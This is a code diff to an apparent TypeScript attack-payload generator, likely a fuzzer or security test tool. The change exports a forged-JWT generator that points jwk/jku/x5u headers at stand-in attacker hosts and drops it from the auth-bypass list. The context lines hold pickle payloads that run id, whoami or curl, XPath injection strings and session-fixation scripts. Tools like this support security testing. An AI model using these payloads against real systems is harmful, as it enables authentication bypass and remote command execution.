@@ -82,7 +82,7 @@ function forgedClaims(r: () => number): Record<string, unknown> {
  * A JSON Web Token whose header brings the key to check it with: the attacker's own (`jwk`) or a URL
  * to fetch it from (`jku`, `x5u`), signed with the attacker's key.
  */
-function keyBringingToken(r: () => number): string {
+export function keyBringingToken(r: () => number): string {
   const alg = pick(r, ["RS256", "RS512", "ES256", "PS256"]);
   const host = pick(r, ["attacker.example", "evil.example.net", "198.51.100.7", "ngrok-free.example"]);
   const key = pick(r, [
@@ -163,7 +163,7 @@ const GRAMMAR: Record<AttackClass, Gen[]> = {
     (r) => Buffer.from(`\x80\x04c${pick(r, ["os", "posix", "subprocess"])}\n${pick(r, ["system", "popen"])}\n(S'${pick(r, ["id", "whoami", `curl ${host(r)}`])}'\ntR.`, "latin1").toString("base64"),
   ],
   xpath: [(r) => `${pick(r, ["'", '"', "x'"])} ${pick(r, ["or", "and"])} ${pick(r, ["count(/*)=1", "name(/*)='root'", "string-length(name(/*))>0", "count(//user)>0"])}${pick(r, [" or '1'='1", "", " and '1'='1"])}`],
-  "auth-bypass": [unsignedToken, keyBringingToken],
+  "auth-bypass": [unsignedToken],
   "session-fixation": [(r) => pick(r, ["<script>document.cookie=\"sessionid=1234;\"</script>", "<meta http-equiv=\"Set-Cookie\" content=\"JSESSIONID=abc\">", "foo\";document.cookie='PHPSESSID=x';//"])],
 };
 
